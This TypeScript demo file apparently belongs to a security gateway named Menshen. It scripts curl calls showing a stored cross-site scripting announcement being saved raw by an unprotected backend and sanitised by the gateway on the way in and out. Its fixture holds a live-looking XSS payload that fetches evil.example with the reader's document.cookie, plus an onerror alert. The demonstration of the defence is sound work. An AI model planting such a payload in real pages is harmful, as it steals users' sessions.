import { clientEndpoints } from '@menshen/wire';
import { beforePrefix } from '../backend/before.ts';
import { demoCast } from '../company/cast.ts';
import {
  assign,
  atOffice,
  bearerOf,
  type CurlLine,
  type CurlOrigins,
  contentType,
  curl,
  json,
  loginBody,
  mintCode,
  quote,
} from '../curl-shell.ts';

/** An announcement whose text carries a script: whoever opens it on a web page sends their session to somebody else. */
export const storedScript = {
  title: '年终奖发放通知',
  html: '<p>各位同事：请<b>尽快</b>核对年终奖金额。</p><script>fetch("https://evil.example/?s="+document.cookie)</script><img src="x" onerror="alert(1)">',
};
/** What of it is an announcement. */
export const cleanedScript = '<p>各位同事：请<b>尽快</b>核对年终奖金额。</p><img src="x" />';
/** The id of an announcement that was stored with a script before Menshen stood there. */
export const oldScriptId = 'A3';

/** A stored script: as the backend takes it, cleaned on the way in, and an old one cleaned on the way out. */
export function storedScriptLines(origins: CurlOrigins): readonly Omit<CurlLine, 'story'>[] {
  const at = (path: string): string => quote(origins.gateway + path);
  return [
    {
      id: 'before-script',
      command: `${curl} ${quote(`${origins.backend}${beforePrefix}/portal/api/announcements`)} ${json(storedScript)} ${bearerOf('BEFORE')}`,
      zh: '没有门神之前：公告里的脚本原样存入，每个打开网页的人都会执行（201）。',
      en: 'Before Menshen: a script in an announcement is stored as it came, and runs for everybody who opens it on a web page (201).',
    },
    {
      id: 'script-code',
      command: mintCode(origins, demoCast.hrHead),
      zh: '人力资源负责人可以发布公告：取得登录凭据。',
      en: 'The head of human resources may publish announcements: a login code.',
    },
    {
      id: 'script-log-in',
      command: assign('PUBLISHER', `curl -sS ${at(clientEndpoints.login)} ${contentType} ${loginBody} ${atOffice}`, 'token'),
      zh: '在办公室登录。',
      en: 'Signing in at the office.',
    },
    {
      id: 'script-old',
      command: `${curl} ${at(`/portal/api/announcements/${oldScriptId}`)} ${bearerOf('PUBLISHER')} ${atOffice}`,
      zh: '那时存下的旧公告：读出时清洗，脚本没有了，正文还在（200）。',
      en: 'An old announcement from that time: cleaned on the way out, the script is gone and the words are there (200).',
    },
    {
      id: 'script-write',
      command: `${curl} ${at('/portal/api/announcements')} ${json(storedScript)} ${bearerOf('PUBLISHER')} ${atOffice}`,
      zh: '发布同样的公告：写入时清洗，后端存下的只有正文（201）。',
      en: 'Publishing the same announcement: cleaned on the way in, the backend stores the words alone (201).',
    },
  ];
}
